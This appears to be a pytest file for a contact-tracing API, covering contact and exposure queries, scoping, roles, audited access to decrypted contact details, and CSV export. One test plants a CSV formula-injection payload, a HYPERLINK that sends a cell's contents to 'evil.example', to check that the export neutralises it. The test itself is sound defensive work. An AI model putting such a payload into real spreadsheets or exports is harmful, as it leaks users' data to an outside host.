"""Contact tracing through the API, against a brute-force reference of DESIGN.md's definitions."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import redis.asyncio as aioredis
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from litestar.testing import AsyncTestClient

from checkin.platform.context import Context
from checkin.platform.settings import Settings
from tests.support.trace_world import (
    COMMUNITIES,
    HOUR_MS,
    MIN_MS,
    World,
    base_ms,
    build_world,
    check_world,
    contacts_api,
    exposures_api,
    iso,
    load,
    make_key,
    random_world,
    reference_contacts,
    reference_visits,
    to_dt,
    visits_api,
)
from tests.support.values import REDIS_URL, admin_headers
from tracing.storage.store import Store


async def test_contacts_and_exposures_match_the_reference_on_seeded_worlds(
    tracing: AsyncTestClient[Any], store: Store, settings: Settings
) -> None:
    headers = await make_key(settings, "tracer")
    compared = 0
    for seed in range(6):
        rng = random.Random(seed)
        world = random_world(rng, base_ms(), n_venues=rng.randrange(2, 7), n_persons=rng.randrange(5, 30))
        load(store, world)
        compared += await check_world(tracing, headers, world, rng)
    assert compared > 20  # the worlds are dense enough that contacts are actually compared


async def test_a_scoped_tracer_sees_only_stays_in_its_jurisdiction(
    tracing: AsyncTestClient[Any], store: Store, settings: Settings
) -> None:
    scope = COMMUNITIES[0][:9]
    headers = await make_key(settings, "tracer", scope)
    for seed in range(3):
        rng = random.Random(100 + seed)
        world = random_world(rng, base_ms(), n_venues=6, n_persons=12, n_checkins=80)
        load(store, world)
        await check_world(tracing, headers, world, rng, scope=scope)
    # a site outside the jurisdiction is refused, not silently empty
    outside = next(v for v, (_d, c) in world.venues.items() if not c.startswith(scope))
    r = await tracing.post(
        "/v1/trace/exposures",
        json={
            "sites": [
                {"venue_id": outside, "since": iso(world.base_ms), "until": iso(world.base_ms + HOUR_MS)}
            ],
            "reason": "x",
        },
        headers=headers,
    )
    assert r.status_code == 403 and "jurisdiction" in r.json()["detail"]


@st.composite
def worlds(draw: st.DrawFn) -> World:
    base = base_ms()
    n_venues = draw(st.integers(1, 4))
    venues = {
        500 + v: (draw(st.sampled_from([15, 30, 60, 120, 720])), draw(st.sampled_from(COMMUNITIES)))
        for v in range(n_venues)
    }
    person = st.integers(1, 8)
    checkin = st.tuples(
        st.sampled_from(sorted(venues)),
        st.lists(person, min_size=1, max_size=3),
        st.integers(0, 24 * 60).map(lambda m: base + m * MIN_MS)
        | st.integers(0, 24 * 3600 * 1000).map(lambda ms: base + ms),
        st.none() | st.integers(1, 12 * 60).map(lambda m: m * MIN_MS) | st.integers(1, 12 * HOUR_MS),
    )
    return build_world(base, venues, draw(st.lists(checkin, min_size=1, max_size=25)))


@hsettings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(world=worlds(), seed=st.integers(0, 2**16))
async def test_contacts_match_the_reference_on_generated_worlds(
    tracing: AsyncTestClient[Any], store: Store, world: World, seed: int
) -> None:
    load(store, world)
    rng = random.Random(seed)
    await check_world(tracing, admin_headers(), world, rng, persons=2)


async def test_contact_lists_are_paged_in_order_with_totals(
    tracing: AsyncTestClient[Any], store: Store
) -> None:
    """Pages of ``limit`` rows from ``offset`` are slices of the reference lists; totals count all rows."""
    rng = random.Random(77)
    world = random_world(rng, base_ms(), n_venues=3, n_persons=30, n_checkins=120)
    load(store, world)
    since, until = world.base_ms - HOUR_MS, world.base_ms + 40 * HOUR_MS
    person = max(
        world.persons, key=lambda p: len(reference_contacts(world.stays, p, since, until, 15 * MIN_MS, 2)[1])
    )
    first, second = reference_contacts(world.stays, person, since, until, 15 * MIN_MS, 2)
    assert len(first) > 3 and len(second) > 3
    body = {"person_id": person, "since": iso(since), "until": iso(until), "depth": 2, "reason": "paging"}
    for offset in range(0, max(len(first), len(second)) + 4, 3):
        r = await tracing.post(
            "/v1/trace/contacts", json={**body, "limit": 3, "offset": offset}, headers=admin_headers()
        )
        assert r.status_code == 200, r.text
        got = r.json()
        assert (got["limit"], got["offset"]) == (3, offset)
        assert got["contacts"] == first[offset : offset + 3], offset
        assert got["second_degree"] == second[offset : offset + 3], offset
        assert (got["contacts_total"], got["second_degree_total"]) == (len(first), len(second))
    for bad in ({"limit": 0}, {"limit": 100_001}, {"offset": -1}, {"limit": "all"}):
        r = await tracing.post("/v1/trace/contacts", json={**body, **bad}, headers=admin_headers())
        assert r.status_code == 400, (bad, r.text)
        assert r.headers["content-type"] == "application/problem+json"


# --- single behaviours ---------------------------------------------------------------------------


@pytest.fixture
def small_world(store: Store) -> World:
    base = base_ms()
    world = build_world(
        base,
        {7: (60, COMMUNITIES[0]), 8: (60, COMMUNITIES[2])},
        [
            (7, [1], base, None),
            (7, [2], base + 30 * MIN_MS, None),
            (7, [3], base + 50 * MIN_MS, None),
            (8, [2, 4], base + 100 * MIN_MS, 20 * MIN_MS),
        ],
    )
    load(store, world)
    return world


async def test_visits_timeline_reads_checkouts_as_one_stay(
    tracing: AsyncTestClient[Any], small_world: World, settings: Settings
) -> None:
    headers = await make_key(settings, "tracer")
    base = small_world.base_ms
    r = await tracing.get(
        "/v1/trace/persons/2/visits",
        params={"since": iso(base - HOUR_MS), "until": iso(base + 24 * HOUR_MS), "reason": "case 42"},
        headers=headers,
    )
    assert r.status_code == 200, r.text
    visits = r.json()["visits"]
    assert [(v["venue_id"], v["at"], v["end_at"], v["checked_out"]) for v in visits] == [
        (7, iso(base + 30 * MIN_MS), iso(base + 90 * MIN_MS), False),
        (8, iso(base + 100 * MIN_MS), iso(base + 120 * MIN_MS), True),
    ]
    # the window selects stays by their start
    r = await tracing.get(
        "/v1/trace/persons/2/visits",
        params={"since": iso(base + 31 * MIN_MS), "until": iso(base + 24 * HOUR_MS), "reason": "case 42"},
        headers=headers,
    )
    assert [v["venue_id"] for v in r.json()["visits"]] == [8]


async def test_a_failed_store_read_is_a_503_problem_naming_the_store(
    tracing: AsyncTestClient[Any], small_world: World, store: Store, settings: Settings
) -> None:
    """Answered once, in the tracing app's exception map: problem+json, Retry-After, no data."""
    headers = await make_key(settings, "tracer")
    base = small_world.base_ms
    params = {"since": iso(base - HOUR_MS), "until": iso(base + 24 * HOUR_MS), "reason": "case 42"}
    store.command(f"RENAME TABLE {store.table('scans_by_person')} TO {store.database}.by_person_away")
    try:
        r = await tracing.get("/v1/trace/persons/2/visits", params=params, headers=headers)
    finally:
        store.command(f"RENAME TABLE {store.database}.by_person_away TO {store.table('scans_by_person')}")
    assert r.status_code == 503, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.headers["retry-after"] == "5"
    assert r.json()["detail"].startswith("the trace store failed: ") and "visits" not in r.json()
    r = await tracing.get("/v1/trace/persons/2/visits", params=params, headers=headers)
    assert r.status_code == 200 and r.json()["count"] == 2


async def test_roles_and_bad_input_get_clear_problems(
    tracing: AsyncTestClient[Any], small_world: World, settings: Settings
) -> None:
    tracer = await make_key(settings, "tracer")
    analyst = await make_key(settings, "analyst")
    base = small_world.base_ms
    body = {"person_id": 1, "since": iso(base), "until": iso(base + HOUR_MS), "reason": "case 42"}

    async def problem(expected: int, r: Any, words: str) -> None:
        assert r.status_code == expected, r.text
        assert r.headers["content-type"] == "application/problem+json"
        assert words in r.json()["detail"], r.json()["detail"]

    await problem(401, await tracing.post("/v1/trace/contacts", json=body), "Authorization")
    await problem(403, await tracing.post("/v1/trace/contacts", json=body, headers=analyst), "tracer")
    await problem(
        400,
        await tracing.post("/v1/trace/contacts", json={**body, "reason": " "}, headers=tracer),
        "reason is required",
    )
    await problem(
        400,
        await tracing.post(
            "/v1/trace/contacts", json={k: v for k, v in body.items() if k != "reason"}, headers=tracer
        ),
        "reason is required",
    )
    await problem(  # a rule between two members, which no schema states: 422
        422,
        await tracing.post(
            "/v1/trace/contacts", json={**body, "since": iso(base + 2 * HOUR_MS)}, headers=tracer
        ),
        "must be before",
    )
    await problem(
        422,
        await tracing.post(
            "/v1/trace/contacts", json={**body, "since": iso(base - 61 * 24 * HOUR_MS)}, headers=tracer
        ),
        "at most 60 days",
    )
    await problem(
        400,
        await tracing.post("/v1/trace/contacts", json={**body, "since": "yesterday"}, headers=tracer),
        "since",
    )
    await problem(
        400, await tracing.post("/v1/trace/contacts", json={**body, "depth": 3}, headers=tracer), "depth"
    )
    await problem(
        404,
        await tracing.post("/v1/trace/contacts", json={**body, "person_id": 999}, headers=tracer),
        "no stays recorded for person 999",
    )
    await problem(
        404,
        await tracing.get("/v1/trace/persons/999/visits", params={"reason": "x"}, headers=tracer),
        "person 999",
    )
    await problem(
        400,
        await tracing.get("/v1/trace/persons/-5/visits", params={"reason": "x"}, headers=tracer),
        "person_id",
    )
    await problem(400, await tracing.get("/v1/trace/persons/1/visits", headers=tracer), "reason is required")
    await problem(
        400,
        await tracing.get(
            "/v1/trace/persons/1/visits", params={"reason": "x", "since": "2026-13-01"}, headers=tracer
        ),
        "since",
    )
    site = {"venue_id": 7, "since": iso(base), "until": iso(base + HOUR_MS)}
    await problem(
        400,
        await tracing.post(
            "/v1/trace/exposures", json={"sites": [site] * 101, "reason": "x"}, headers=tracer
        ),
        "too many sites",
    )
    await problem(
        400,
        await tracing.post("/v1/trace/exposures", json={"sites": [], "reason": "x"}, headers=tracer),
        "at least one",
    )
    await problem(
        422,
        await tracing.post(
            "/v1/trace/exposures",
            json={"sites": [{**site, "until": iso(base)}], "reason": "x"},
            headers=tracer,
        ),
        "sites[0]",
    )
    await problem(
        400,
        await tracing.post(
            "/v1/trace/exposures",
            params={"format": "xlsx"},
            json={"sites": [site], "reason": "x"},
            headers=tracer,
        ),
        "format",
    )
    await problem(403, await tracing.get("/v1/audit", headers=tracer), "admin")


async def test_csv_export_neutralises_spreadsheet_formulas(
    tracing: AsyncTestClient[Any], store: Store, small_world: World, settings: Settings
) -> None:
    tracer = await make_key(settings, "tracer")
    now = dt.datetime.now(dt.UTC)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    store.insert(
        "venues",
        ["venue_id", "name", "district", "street", "community", "dwell_minutes", "updated_at"],
        [
            [7, evil, "620102", "620102001", COMMUNITIES[0], 60, now],
            [8, "@SUM(1+1)", "620103", "620103002", COMMUNITIES[2], 60, now],
        ],
        column_oriented=False,
    )
    base = small_world.base_ms
    sites = [
        {"venue_id": 7, "since": iso(base), "until": iso(base + HOUR_MS)},
        {"venue_id": 8, "since": iso(base), "until": iso(base + 3 * HOUR_MS)},
    ]
    r = await tracing.post(
        "/v1/trace/exposures", params={"format": "csv"}, json={"sites": sites, "reason": "x"}, headers=tracer
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    tz = settings.tz
    assert rows[0] == [
        "person_id",
        "name",
        "venue_id",
        "venue_name",
        f"first_at_venue ({tz})",
        f"first_at ({tz})",
    ]
    by_key = {(row[0], row[2]): row for row in rows[1:]}
    assert by_key[("1", "7")][3] == "'" + evil
    assert by_key[("4", "8")][3] == "'@SUM(1+1)"
    assert {k[0] for k in by_key} == {"1", "2", "3", "4"}
    # local wall time, which a spreadsheet (and Python) reads as a date
    first_at_venue = dt.datetime.fromisoformat(by_key[("2", "8")][4]).replace(tzinfo=ZoneInfo(tz))
    first_at = dt.datetime.fromisoformat(by_key[("2", "8")][5]).replace(tzinfo=ZoneInfo(tz))
    assert first_at_venue == to_dt(base + 100 * MIN_MS) and first_at == to_dt(base + 30 * MIN_MS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # the timeline carries the venue name as stored (JSON is not a spreadsheet)
    r = await tracing.get("/v1/trace/persons/1/visits", params={"reason": "x"}, headers=tracer)
    assert r.json()["visits"][0]["venue_name"] == evil


async def test_csv_cell_rules() -> None:
    from tracing.api.csv_export import csv_cell

    for raw in ["=1+1", "+1", "-1", "@x", "\tx", "\rx"]:
        assert csv_cell(raw) == "'" + raw
    assert csv_cell("plain") == "plain" and csv_cell(12) == "12" and csv_cell(None) == ""


async def test_contact_details_are_decrypted_for_tracers_and_audited(
    tracing: AsyncTestClient[Any], store: Store, settings: Settings
) -> None:
    from checkin.platform import persons
    from checkin.residents import service as residents

    client = aioredis.Redis.from_url(REDIS_URL)
    try:
        ctx = Context.build(settings, client, "test")
        line = b'{"name": "Li Lei", "phone": "13800138000", "id_number": "11010519491231002X"}'
        reg = (await residents.import_chunk(ctx, [(1, line)]))[0]
        assert reg.person_id is not None
        details = await persons.contact_details(ctx, reg.person_id)
    finally:
        await client.aclose()
    assert details is not None
    person = reg.person_id
    base = base_ms()
    load(store, build_world(base, {7: (60, COMMUNITIES[2])}, [(7, [person], base, None)]))
    tracer = await make_key(settings, "tracer")
    r = await tracing.get(f"/v1/trace/persons/{person}/contact-details", headers=tracer)
    assert r.status_code == 400 and "reason" in r.json()["detail"]
    # purpose binding: the person must be the subject of (or named in) an answer to this key first
    r = await tracing.get(
        f"/v1/trace/persons/{person}/contact-details", params={"reason": "no trace yet"}, headers=tracer
    )
    assert r.status_code == 403 and r.json()["reason"] == "not_traced"
    r = await tracing.get(f"/v1/trace/persons/{person}/visits", params={"reason": "case 42"}, headers=tracer)
    assert r.status_code == 200 and r.json()["count"] == 1
    # a visits timeline binds no one; the contacts query of the person (its index) does
    r = await tracing.get(
        f"/v1/trace/persons/{person}/contact-details", params={"reason": "timeline only"}, headers=tracer
    )
    assert r.status_code == 403 and r.json()["reason"] == "not_traced"
    window = {"since": iso(base - HOUR_MS), "until": iso(base + HOUR_MS)}
    r = await tracing.post(
        "/v1/trace/contacts", json={"person_id": person, **window, "reason": "case 42"}, headers=tracer
    )
    assert r.status_code == 200, r.text
    r = await tracing.get(
        f"/v1/trace/persons/{person}/contact-details", params={"reason": "call case 42"}, headers=tracer
    )
    assert r.status_code == 200, r.text
    assert r.json() == {"person_id": person, "name": "Li Lei", "phone": details.phone}
    assert details.phone.endswith("13800138000")  # decrypted, not the stored ciphertext
    # a scoped tracer gets the details only of persons with a stay in its jurisdiction
    scoped = await make_key(settings, "tracer", COMMUNITIES[0][:9])
    r = await tracing.get(f"/v1/trace/persons/{person}/visits", params={"reason": "x"}, headers=scoped)
    assert r.status_code == 404
    r = await tracing.get(
        f"/v1/trace/persons/{person}/contact-details", params={"reason": "x"}, headers=scoped
    )
    assert r.status_code == 403  # the 404 above named no one
    r = await tracing.get("/v1/audit", params={"action": "contact_details"}, headers=admin_headers())
    entries = r.json()["entries"]
    assert [(e["reason"], e["rows"]) for e in entries] == [
        ("x", 0),
        ("call case 42", 1),
        ("timeline only", 0),
        ("no trace yet", 0),
    ]
    assert entries[1]["params"] == {"person_id": person}
    assert entries[2]["params"]["outcome"] == entries[3]["params"]["outcome"] == "not_traced"


async def test_an_overlap_of_exactly_the_minimum_qualifies(
    tracing: AsyncTestClient[Any], small_world: World
) -> None:
    base = small_world.base_ms
    got = await contacts_api(tracing, admin_headers(), 1, base, base + HOUR_MS, 10, 1)
    assert [(c["person_id"], c["overlap_seconds"]) for c in got["contacts"]] == [(2, 1800.0), (3, 600.0)]
    got = await contacts_api(tracing, admin_headers(), 1, base, base + HOUR_MS, 11, 1)
    assert [c["person_id"] for c in got["contacts"]] == [2]


async def _contacts_both(
    tracing: AsyncTestClient[Any], world: World, person: int, since: int, until: int, minutes: int
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The API's depth-2 answer, checked equal to the reference (and depth 1 to its first list)."""
    got = await contacts_api(tracing, admin_headers(), person, since, until, minutes, 2)
    first, second = reference_contacts(world.stays, person, since, until, minutes * MIN_MS, 2)
    assert (got["contacts"], got["second_degree"]) == (first, second)
    got1 = await contacts_api(tracing, admin_headers(), person, since, until, minutes, 1)
    assert (got1["contacts"], got1["second_degree"]) == (first, [])
    return first, second


async def test_overlaps_of_one_pair_add_up_to_a_contact(tracing: AsyncTestClient[Any], store: Store) -> None:
    """Two 10-minute overlaps make a 20-minute contact (15 is cumulative over the window), and a
    second-degree person qualifies through one first-degree contact at a time."""
    base = base_ms()
    world = build_world(
        base,
        {7: (60, COMMUNITIES[0]), 8: (60, COMMUNITIES[0]), 9: (60, COMMUNITIES[0])},
        [
            (7, [1], base, None),  # i: [0, 60) at 7
            (7, [2], base + 50 * MIN_MS, None),  # q: [50, 110) at 7, 10 min with i
            (8, [1], base + 120 * MIN_MS, None),  # i: [120, 180) at 8
            (8, [2], base + 170 * MIN_MS, None),  # q: [170, 230) at 8, 10 min with i
            (9, [2, 3], base + 300 * MIN_MS, None),  # q with 3: [300, 360)
            (9, [4], base + 352 * MIN_MS, None),  # 8 min with q and 3 ...
            (7, [4, 3], base + 420 * MIN_MS, None),  # ... then 3 and 4 at 7, without q
            (7, [2], base + 472 * MIN_MS, None),  # 8 min with 3 and 4 at 7: 16 min with 4 in all
        ],
    )
    load(store, world)
    since, until = base - HOUR_MS, base + 24 * HOUR_MS
    first, second = await _contacts_both(tracing, world, 1, since, until, 15)
    assert [(c["person_id"], c["overlap_seconds"], c["venue_ids"]) for c in first] == [(2, 1200.0, [7, 8])]
    assert first[0]["first_contact_at"] == iso(base + 50 * MIN_MS)
    assert [(c["person_id"], c["overlap_seconds"], c["via"]) for c in second] == [
        (3, 4080.0, [2]),  # 60 min at 9 and 8 at 7
        (4, 960.0, [2]),
    ]
    first, second = await _contacts_both(tracing, world, 1, since, until, 21)
    assert first == [] and second == []
    # 10 min with each of two first-degree contacts at once is not 15 with either
    world = build_world(
        base,
        {7: (60, COMMUNITIES[0]), 8: (60, COMMUNITIES[0])},
        [
            (7, [1, 11, 12], base, None),  # i with q1 and q2
            (8, [11, 12], base + 100 * MIN_MS, None),  # q1 and q2 together: [100, 160)
            (8, [21], base + 150 * MIN_MS, None),  # 10 min with each
        ],
    )
    load(store, world)
    first, second = await _contacts_both(tracing, world, 1, since, until, 15)
    assert [c["person_id"] for c in first] == [11, 12] and second == []
    _, second = await _contacts_both(tracing, world, 1, since, until, 10)
    assert [(c["person_id"], c["overlap_seconds"], c["via"]) for c in second] == [(21, 1200.0, [11, 12])]


async def test_scanning_again_and_again_adds_no_time_together(
    tracing: AsyncTestClient[Any], store: Store
) -> None:
    """Scans 61 s apart around the case's hour: each ends the stay before it, so the overlap is the
    time really spent together (one hour), not one dwell per scan."""
    base = base_ms()
    scans = [(7, [2], base + k * 61_000, None) for k in range(200)]
    world = build_world(base, {7: (60, COMMUNITIES[0])}, [(7, [1], base + HOUR_MS, None), *scans])
    load(store, world)
    first, _ = await _contacts_both(tracing, world, 1, base - HOUR_MS, base + 24 * HOUR_MS, 15)
    assert [(c["person_id"], c["overlap_seconds"]) for c in first] == [(2, 3600.0)]
    got = await contacts_api(tracing, admin_headers(), 2, base - HOUR_MS, base + 24 * HOUR_MS, 15, 1)
    assert [(c["person_id"], c["overlap_seconds"]) for c in got["contacts"]] == [(1, 3600.0)]


async def test_the_timeline_shows_stays_ended_by_the_next_one(
    tracing: AsyncTestClient[Any], store: Store
) -> None:
    base = base_ms()
    world = build_world(
        base,
        {7: (60, COMMUNITIES[0]), 8: (60, COMMUNITIES[2])},
        [
            (7, [1], base, 3 * HOUR_MS),  # checked out at 3 h, but at 8 from 20 min on
            (8, [1], base + 20 * MIN_MS, 10 * MIN_MS),  # checked out
            (7, [1], base + 40 * MIN_MS, None),
        ],
    )
    load(store, world)
    got = await visits_api(tracing, admin_headers(), 1, base - HOUR_MS, base + 24 * HOUR_MS)
    assert [(v["venue_id"], v["at"], v["end_at"], v["checked_out"]) for v in got] == [
        (7, iso(base), iso(base + 20 * MIN_MS), False),
        (8, iso(base + 20 * MIN_MS), iso(base + 30 * MIN_MS), True),
        (7, iso(base + 40 * MIN_MS), iso(base + 100 * MIN_MS), False),
    ]
    assert got == reference_visits(world.stays, 1, base - HOUR_MS, base + 24 * HOUR_MS)
    # exposure screening reads the cut stay: nobody at 7 from 20 to 40 min
    r = await exposures_api(tracing, admin_headers(), [(7, base + 20 * MIN_MS, base + 40 * MIN_MS)])
    assert r == []
